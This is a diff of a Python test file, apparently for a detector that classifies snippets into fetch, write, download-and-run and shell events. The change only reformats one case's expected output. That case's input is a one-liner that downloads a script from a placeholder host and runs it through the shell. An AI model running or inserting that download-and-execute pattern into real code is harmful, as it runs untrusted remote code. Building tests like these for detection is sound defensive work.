@@ -199,7 +199,12 @@ CASES: list[tuple[str, list[tuple[str, ...]]]] = [
     ),
     (
         "import os, urllib.request as u; u.urlretrieve('http://h/x.sh', 'x.sh'); os.system('sh x.sh')",
-        [("fetch", "http://h/x.sh"), ("write", "x.sh", "downloaded"), ("run_download", "http://h/x.sh"), ("shell", "sh x.sh")],
+        [
+            ("fetch", "http://h/x.sh"),
+            ("write", "x.sh", "downloaded"),
+            ("run_download", "http://h/x.sh"),
+            ("shell", "sh x.sh"),
+        ],
     ),
     # network
     ("import requests; requests.get('http://h')", [("fetch", "http://h")]),
